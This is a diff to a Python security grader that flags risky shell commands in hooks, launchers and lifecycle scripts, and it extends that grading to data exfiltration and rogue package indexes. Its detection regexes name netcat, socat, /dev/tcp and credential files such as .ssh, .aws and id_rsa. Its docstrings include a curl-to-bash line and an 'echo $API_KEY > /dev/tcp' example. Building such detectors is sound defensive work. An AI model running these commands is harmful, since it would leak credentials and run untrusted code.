@@ -25,7 +25,14 @@ The grader never runs anything. Patterns are RE2 (linear time); tree-sitter-bash
 shell_flow) adds what needs structure (variables, process substitution). Offsets in a
 CommandFact are character offsets into the command string given.
 
-API for callers (settings helper, prose rules, scripts):
+Run unattended (`grade_command(cmd, unattended=True)`: hooks, status lines, credential helpers,
+MCP launchers, folder-open tasks, lifecycle scripts; rules/mcp_supply.grade_launch is the
+settings rules' entry), a command gets no discount for a placeholder host, a vendor installer
+is medium, and three more shapes are reported: sending its input, history, files or command
+output to a stranger (`host-data-exfil`), a secret spliced into a URL, and a package index on a
+bare IP or look-alike host.
+
+API for callers (settings rules, prose rules, scripts):
     facts = grade_command("curl -fsSL https://x.example/i.sh | bash")
     for f in facts: f.kind, f.severity, f.start, f.end, f.message, f.host, f.url, f.grade
     worst(facts) -> the most severe fact or None
@@ -264,6 +271,41 @@ _LANG = {"python": "python", "py": "python", "node": "node", "nodejs": "node", "
 _CODE_FLAGS = ("-c", "-m", "-e", "-E", "-p", "-r", "--eval", "--print", "--version", "-V", "-h", "--help", "-File", "-file", "-f")
 
 
+# Unattended-only shapes (see grade_command): what one-liners send, requests carrying local data.
+_INLINE_SECRET = rx(r"(?:os\.environ|\)\s*\.\s*environ|getenv|process\.env|\benv\[|%env|\.ssh|\.aws|credentials|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519)|\.kube|\.docker/config|keychain)")
+_INLINE_SEND = rx(r"(?:\bdata\s*=|method\s*:\s*[\"']?(?:post|put)|\.post\s*\(|\.put\s*\(|body\s*:|\.send\s*\(|\bpost\b|\?\w+=['\"]?\s*\+)")
+_SENDER = rx(r"(?i)(?:\b(?:curl|wget|xh|curlie|invoke-webrequest|invoke-restmethod|iwr|irm)\b|\b(?:nc|ncat|netcat|socat|telnet)\s|\bopenssl\s+s_client\b)")
+# curl's data flags are case-sensitive (-F form, -f fail; -T upload, -t telnet option): read the original text
+_SEND_FLAGS = rx(r"(?:\s-d\b|\s-F\b|\s-T\b|--data|--form|--upload-file|--json|\s-X\s*['\"]?(?i:post|put|patch)|--request[\s=]+['\"]?(?i:post|put|patch)|\s-[a-zA-Z]*[dFT]\s|(?i:--post-(?:data|file)|--body-(?:data|file)|-method\s+(?:post|put)|-body\b|-infile\b))")
+_PIPED_BEFORE = rx(r"(?:[^|]\||^\|)\s*(?:\w+=\S+\s+)*(?:(?:xargs|timeout\s+\S+|nohup)\s+(?:-\S+\s+)*)?$")
+_STDIN_DATA = rx(r"(?:@-|-T\s*-(?:\s|$)|--upload-file\s+-(?:\s|$)|</dev/stdin|@/dev/stdin)")
+_LOCAL_DATA = rx(r"(?i)(?:\$\(\s*cat\s*-?\s*\)|\$\(\s*(?:whoami|hostname|id|uname[^)]*|pwd|ls[^)]*|env|printenv)\s*\)|</dev/stdin|\bhistory\b|\bcat\s*(?:\||$|-\s)|\btar\s+[^\n|]*\||\bzip\s+-r|\bfind\s+/|\bgit\s+(?:diff|log|show)\b|\bls\s+-\w*r)")
+_SOCKET_TARGET = rx(r"(?i)(?:\b(?:nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*([a-z0-9][\w.-]*)\s+\d{2,5}|\bs_client\s+(?:-\S+\s+)*-connect\s+([a-z0-9][\w.-]*):\d+|\bsocat\b[^\n]*?tcp4?:([a-z0-9][\w.-]*):\d+)")
+_DEV_TCP_WRITE = rx(r"""(?i)((?:^|[\s;&|({`'"])(?:echo|printf|cat|env|printenv|set)\b[^\n;&|<>]*)\d?>>?\s*/dev/(?:tcp|udp)/([^/\s]+)/\d+""")
+_INDEX_FLAGS = ("--index-url", "--extra-index-url", "--default-index", "--index", "-i", "--registry", "--find-links", "-f", "--python", "--cache", "--userconfig")
+_INDEX_FLAG = rx(r"(?i)(?:^|\s)(?:--index-url|--extra-index-url|--default-index|--index|-i|--registry|--find-links|-f)[\s=]+['\"]?((?:https?|ftp)://[^\s'\"]+)")
+_URL_LOOSE = rx(r"(?i)\b(?:https?|ftp|wss?)://[^\s'\"`<>]+")
+
+
+def _urls_loose(text: str) -> list[str]:
+    """URLs up to whitespace or a quote (`&`, `$(...)` and `;` inside a quoted URL kept)."""
+    return [m.group(0).decode("utf-8", "replace") for m in _URL_LOOSE.finditer(text.encode("utf-8", "surrogatepass"))][:20]
+
+
+def _private(host: str) -> bool:
+    """Loopback, private network and in-house names: not a stranger's host."""
+    return (not host or host in ("localhost", "0.0.0.0", "::1", "host.docker.internal") or host.startswith(("127.", "10.", "192.168.", "169.254."))
+            or host.endswith((".localhost", ".local", ".internal", ".lan", ".home.arpa")))
+
+
+def _known_service(host: str) -> bool:
+    """A host on the own domain of a vendor scanner/hosts lists (credential vendors, brands)."""
+    if not host or H.is_ip(host) or H.look_alike_brand(host):
+        return False
+    domains = {d for ds in H.credential_vendors().values() for d in ds} | {d for ds in H.brands().values() for d in ds}
+    return H.host_in(host, domains)
+
+
 _CRED_COMMAND_VENDOR = (("gh ", "gh_token"), ("aws ", "aws"), ("gcloud ", "google"), ("az ", "azure"),
                         ("npm token", "npm_token"), ("docker-credential", ""), ("git credential", ""))
 
@@ -291,10 +333,10 @@ def _in_header(d: bytes, s0: int, at: int) -> bool:
     return between.count(b'"') % 2 == 1 or between.count(b"'") % 2 == 1 or b" -" not in between.strip()
 
 
-def grade(command: str, floor: Severity = Severity.MEDIUM) -> tuple[Severity, str] | None:
+def grade(command: str, floor: Severity = Severity.MEDIUM, unattended: bool = False) -> tuple[Severity, str] | None:
     """(severity, message) of the worst thing `command` would do, or None below `floor`: the
     drop-in for rules/agent_config.grade_command (hooks, statusLine, MCP launchers, tasks)."""
-    w = worst(grade_command(command))
+    w = worst(grade_command(command, unattended))
     if w is None or w.severity < floor:
         return None
     return w.severity, w.message
@@ -304,26 +346,33 @@ def worst(facts):
     return max(facts, key=lambda f: f.severity, default=None)
 
 
-def grade_command(command: str) -> list[CommandFact]:
-    """What running `command` would do, by kind, with offsets into `command`. Never raises on odd text."""
+def grade_command(command: str, unattended: bool = False) -> list[CommandFact]:
+    """What running `command` would do, by kind, with offsets into `command`. Never raises on odd text.
+
+    `unattended`: the command runs with no person reading it first (a hook, a status line or
+    credential helper, an MCP launcher, a folder-open task, a lifecycle script). Then a
+    placeholder host (example.com, `.example`) is graded as the unknown host it is, and sending
+    the command's input, history or files (`host-data-exfil`) or a secret in a URL to a host
+    that is not its vendor's is reported: in a script or a code block a person reads, those
+    shapes are everyday use."""
     if len(command) <= 400:
-        return list(_grade_cached(command))  # short commands repeat (hooks, the same install line): cached
-    return _grade(command)
+        return list(_grade_cached(command, unattended))  # short commands repeat (hooks, the same install line): cached
+    return _grade(command, unattended)
 
 
 @lru_cache(maxsize=512)
-def _grade_cached(command: str) -> tuple[CommandFact, ...]:
-    return tuple(_grade(command))
+def _grade_cached(command: str, unattended: bool = False) -> tuple[CommandFact, ...]:
+    return tuple(_grade(command, unattended))
 
 
-def _grade(command: str) -> list[CommandFact]:
+def _grade(command: str, unattended: bool = False) -> list[CommandFact]:
     command = command[:MAX_COMMAND]
     if not command.strip():
         return []
     data = command.encode("utf-8", "surrogatepass")
     if not _GATE.search(data):
         return []
-    g = _Grader(command, data)
+    g = _Grader(command, data, unattended)
     try:
         g.run()
     except (RecursionError, MemoryError, ValueError):  # pragma: no cover - defensive on hostile text
@@ -332,11 +381,24 @@ def _grade(command: str) -> list[CommandFact]:
 
 
 class _Grader:
-    def __init__(self, command: str, data: bytes) -> None:
+    def __init__(self, command: str, data: bytes, unattended: bool = False) -> None:
         self.command = command
         self.data = data
+        self.unattended = unattended
         self.pos = _b2c(command, data)
         self.facts: list[CommandFact] = []
+
+    def url_grade(self, url: str) -> tuple[Severity, str, str]:
+        """grade_url, except that a command run unattended gets no discount for a placeholder host,
+        and a vendor's installer it runs on every event (unpinned, unread) is medium, not low."""
+        sev, grade, host = grade_url(url)
+        if grade == "vendor" and self.unattended:
+            return Severity.MEDIUM, grade, host
+        if grade == "placeholder" and self.unattended and host and not _private(host) and "<" not in url and "your" not in host:
+            if url.strip().lower().startswith(("http://", "ftp://")):
+                return Severity.CRITICAL, "http", host
+            return (Severity.HIGH, "lookalike", host) if H.look_alike_brand(host) else (Severity.HIGH, "unknown", host)
+        return sev, grade, host
 
     def add(self, kind: str, b0: int, b1: int, message: str, severity: Severity, url: str = "", grade: str = "", host: str = "") -> None:
         self.facts.append(CommandFact(kind, severity, self.pos(b0), max(self.pos(b1), self.pos(b0) + 1), message, host, url[:300], grade))
@@ -348,7 +410,7 @@ class _Grader:
         if not url:
             eol = self.data.find(b"\n", m.end())
             url = _first_url(self.text(m)) or _first_url(self.data[m.start():len(self.data) if eol < 0 else eol].decode("utf-8", "replace"))
-        sev, grade, host = grade_url(url)
+        sev, grade, host = self.url_grade(url)
         self.add(REMOTE_EXEC, m.start() if b0 is None else b0, m.end() if b1 is None else b1,
                  f"{message} ({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
 
@@ -360,7 +422,11 @@ class _Grader:
         self.decodes()
         self.reverse_shells()
         self.credentials()
+        self.dev_tcp_writes()
         self.structure()
+        if self.unattended:
+            self.indexes()
+            self.sends()
 
     # -- download and run ------------------------------------------------------------------
     def downloads(self) -> None:
@@ -398,9 +464,11 @@ class _Grader:
                 self.add(DECODE_EXEC, m.start(), end, f"{lang} one-liner decodes hidden code and evaluates it", Severity.CRITICAL)
             if _LANG_SEND[lang].search(seg) and _LANG_SECRETS[lang].search(seg):
                 url = _first_url(seg.decode("utf-8", "replace"))
-                _, grade, host = grade_url(url)
+                _, grade, host = self.url_grade(url)
                 self.add(CRED_EXFIL, m.start(), end, f"{lang} one-liner sends the environment or a credential file ({grade_words(grade)}{': ' + host if host else ''})",
                          Severity.CRITICAL, url, grade, host)
+            elif self.unattended and not (fetch and run) and (fetch or _LANG_SEND[lang].search(seg)):
+                self.inline_send(m.start(), end, lang, seg)
             if sock.search(seg) and shell.search(seg):
                 self.add(REVERSE_SHELL, m.start(), end, f"{lang} one-liner wires a network socket to a shell", Severity.CRITICAL)
 
@@ -409,11 +477,17 @@ class _Grader:
             runner = " ".join(self.text(m, 1).split()).lower()
             args = self.text(m, 2).split()
             target = ""
-            expect_value = False
+            expect_value = skip_value = False
             for a in args:
                 a = a.strip("'\"`.,;)")
+                if skip_value:
+                    skip_value = False
+                    continue
                 if a in ("--from", "--spec", "--package", "-p", "--with"):
                     expect_value = True
+                    continue
+                if a.split("=", 1)[0] in _INDEX_FLAGS:
+                    skip_value = "=" not in a  # an index or registry is where packages come from, not the code run
                     continue
                 if "=" in a and a.startswith("--"):
                     a = a.split("=", 1)[1]
@@ -432,7 +506,7 @@ class _Grader:
             if not target:
                 continue
             url = _ref_url(target)
-            sev, grade, host = grade_url(url)
+            sev, grade, host = self.url_grade(url)
             if grade == "vendor" and not runner.startswith("deno"):
                 sev, grade = Severity.MEDIUM, "unknown"  # a vendor's domain hosts installers, not arbitrary packages
             elif grade == "unknown" and host in ("github.com", "gitlab.com") and not target.lower().startswith(("http://", "https://")) or \
@@ -448,8 +522,15 @@ class _Grader:
             self.remote(m, "A Windows system binary fetches and runs remote code")
         for m in _INSTALL_URL.finditer(self.data):
             tool = " ".join(self.text(m, 1).split()).lower()
+            skip_value = False
             for a in self.text(m, 2).split():
                 a = a.strip("'\"`.,;)")
+                if skip_value:
+                    skip_value = False
+                    continue
+                if a.split("=", 1)[0] in _INDEX_FLAGS:
+                    skip_value = "=" not in a  # `--index-url URL`: where packages come from (see indexes), not a package
+                    continue
                 if "=" in a and a.startswith("--"):
                     a = a.split("=", 1)[1]
                 low = a.lower()
@@ -458,7 +539,7 @@ class _Grader:
                 if "@" in a and "+" not in a and not low.startswith(("http", "git@")):
                     a = a.split("@", 1)[1]  # `pkg @ git+https://..` (pip direct reference)
                 url = _ref_url(a)
-                sev, grade, host = grade_url(url)
+                sev, grade, host = self.url_grade(url)
                 if grade == "unknown" and host in ("github.com", "gitlab.com"):
                     sev, grade = Severity.LOW, "repository"  # `pip install git+https://github.com/org/repo`: a common, reviewable install
                 elif grade in ("vendor", "release"):
@@ -517,7 +598,7 @@ class _Grader:
         dumps = [(m.start(), m.end(), "the whole environment") for m in _ENV_DUMP.finditer(d)]
         for s0, s1, what, seg in sinks:
             url = _first_url(seg)
-            _, grade, host = grade_url(url)
+            _, grade, host = self.url_grade(url)
             public = what == "gist" and ("--public" in seg or " -p" in seg)
             secrets = self.secret_vars(seg, s0)
             src = next(((a, b, w) for a, b, w in strong if a < s1), None)  # a source before the sink, or inside its arguments
@@ -562,6 +643,21 @@ class _Grader:
             elif what == "http" and grade == "paste" and _DATA_FLAG.search(seg.encode()):
                 self.add(CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
 
+    def dev_tcp_writes(self) -> None:
+        """`echo $API_KEY > /dev/tcp/host/443`: bash opens the socket and writes the value to it."""
+        for m in _DEV_TCP_WRITE.finditer(self.data):
+            host = self.text(m, 2).lower()
+            if _private(host):
+                continue
+            names = [n for n in (next((x for x in g.groups() if x), b"").decode("utf-8", "replace")
+                                 for g in _SECRET_VAR.finditer(m.group(1))) if c.is_secret_env_name(n)]
+            source = _CRED_COMMAND.search(m.group(1)) is not None or _ENV_DUMP.search(m.group(1)) is not None
+            if names or source:
+                self.add(CRED_EXFIL, m.start(), m.end(), f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
+                         Severity.CRITICAL, f"tcp://{host}", "ip" if H.is_ip(host) else "unknown", host)
+            elif self.unattended:
+                self.add(c.HOST_DATA_EXFIL, m.start(), m.end(), f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
+
     def _piped_between(self, a: int, b: int) -> bool:
         """Is the source's output piped into the sink (a `|` between them, not `||`)?"""
         between = self.data[a:b].replace(b"||", b"")
@@ -579,6 +675,87 @@ class _Grader:
                 or b"bearer" in before[-20:].lower() or b"token " in before[-20:].lower()
             out.append((name, in_header))
         return out
+
+    # -- unattended: an index on a stranger, data sent from input/history/files, secrets in URLs
+    def indexes(self) -> None:
+        """`pip install --index-url URL`, `npx --registry URL`, `uvx --index-url URL`: every package comes
+        from that host; a bare IP or a look-alike of a registry's brand there is an attack."""
+        for m in _INDEX_FLAG.finditer(self.data):
+            url = self.text(m, 1)
+            host = H.host_of(url)
+            if host and (H.is_ip(host) and not _private(host) or H.look_alike_brand(host)):
+                _, grade, host = self.url_grade(url)
+                self.add(REMOTE_EXEC, m.start(), m.end(), f"Packages installed from an index on {grade_words(grade)}: {host}", Severity.HIGH, url, grade, host)
+
+    def inline_send(self, b0: int, b1: int, lang: str, seg: bytes) -> None:
+        """Unattended: a one-liner that reaches a stranger's host with secrets (read broadly: any
+        environment read, credential path or keychain) or with data it posts."""
+        low = seg.lower()
+        url = next((u for u in _urls_loose(seg.decode("utf-8", "replace")) if not _private(H.host_of(u))), "")
+        if not url:
+            return
+        _, grade, host = self.url_grade(url)
+        if grade in ("vendor", "local"):
+            return
+        if _INLINE_SECRET.search(low) is not None:
+            self.add(CRED_EXFIL, b0, b1, f"{lang} one-liner reads credentials or the environment and sends them ({grade_words(grade)}: {host})",
+                     Severity.CRITICAL, url, grade, host)
+        elif _INLINE_SEND.search(low) is not None:
+            self.add(c.HOST_DATA_EXFIL, b0, b1, f"{lang} one-liner sends data ({grade_words(grade)}: {host})", Severity.HIGH, url, grade, host)
+
+    def sends(self) -> None:
+        """A request that carries the command's input, history, files or command output, or a
+        secret spliced into its URL, to a host that is not the secret's vendor."""
+        d = self.data
+        for url in _urls_loose(self.command):
+            host = H.host_of(url)
+            if not host or _private(host):
+                continue
+            names = [n for n in (next((x for x in m.groups() if x), b"").decode("utf-8", "replace")
+                                 for m in _SECRET_VAR.finditer(url.encode("utf-8", "surrogatepass"))) if c.is_secret_env_name(n)]
+            names = [n for n in names if not H.credential_goes_home(n, url)]
+            if names and not self._covered((CRED_EXFIL,), Severity.HIGH):
+                sev, grade, host = self.url_grade(url)
+                if grade not in ("vendor", "local"):
+                    self.add(CRED_EXFIL, 0, len(d), f"Secret variable {names[0]} is spliced into a URL ({grade_words(grade)}: {host})",
+                             Severity.CRITICAL if grade in ("ip", "paste", "http", "lookalike") else Severity.HIGH, url, grade, host)
+        if self._covered((CRED_EXFIL, REMOTE_EXEC, REVERSE_SHELL), Severity.HIGH):
+            return
+        for m in _SENDER.finditer(d):
+            eol = len(d)
+            for stop in (b"\n", b";", b"&&", b"||"):
+                i = d.find(stop, m.end())
+                eol = min(eol, i) if i >= 0 else eol
+            seg = d[m.start():eol]
+            url = _first_url(seg.decode("utf-8", "replace")) or next(iter(_urls_loose(seg.decode("utf-8", "replace"))), "")
+            host = H.host_of(url) if url else ""
+            sock = _SOCKET_TARGET.search(seg)
+            if not host and sock is not None:
+                host = next((g for g in sock.groups() if g), b"").decode("utf-8", "replace")
+                url = f"tcp://{host}"
+            if not host or _private(host) or "." not in host and not H.is_ip(host):
+                continue
+            _, grade, host = self.url_grade(url)
+            if grade in ("vendor", "local"):
+                continue
+            before = d[max(0, m.start() - 60):m.start()]
+            piped = _PIPED_BEFORE.search(before) is not None
+            in_url = b"$(" in url.encode() or b"`" in url.encode()
+            flags = _SEND_FLAGS.search(self.command.encode("utf-8", "surrogatepass")[m.start():eol]) is not None or sock is not None
+            if not (piped or in_url or flags):
+                continue
+            local = piped or in_url or _STDIN_DATA.search(seg) is not None or _LOCAL_DATA.search(d[:eol]) is not None
+            if local:
+                sev = Severity.MEDIUM if _known_service(host) else Severity.HIGH
+                self.add(c.HOST_DATA_EXFIL, m.start(), eol, f"Sends local data (its input, history, files or command output) to {grade_words(grade)}: {host}",
+                         sev, url, grade, host)
+            elif not _known_service(host):  # a request to a well-known service's own API is its ordinary use
+                self.add(c.HOST_DATA_EXFIL, m.start(), eol, f"Sends data over the network ({grade_words(grade)}: {host})",
+                         Severity.HIGH if grade in ("lookalike", "ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
+            return
+
+    def _covered(self, kinds, floor: Severity = Severity.MEDIUM) -> bool:
+        return any(f.kind in kinds and f.severity >= floor for f in self.facts)
 
     # -- structure (tree-sitter-bash) --------------------------------------------------------
     def structure(self) -> None:
@@ -600,7 +777,7 @@ class _Grader:
             url = f.properties.get("url", "")
             sev, grade, host = f.severity, "", H.host_of(url) if url else ""
             if f.kind == REMOTE_EXEC:
-                sev, grade, host = grade_url(url)
+                sev, grade, host = self.url_grade(url)
             self.facts.append(CommandFact(f.kind, sev, f.start, f.end, f.message, host, url, grade))
 
     def result(self) -> list[CommandFact]:
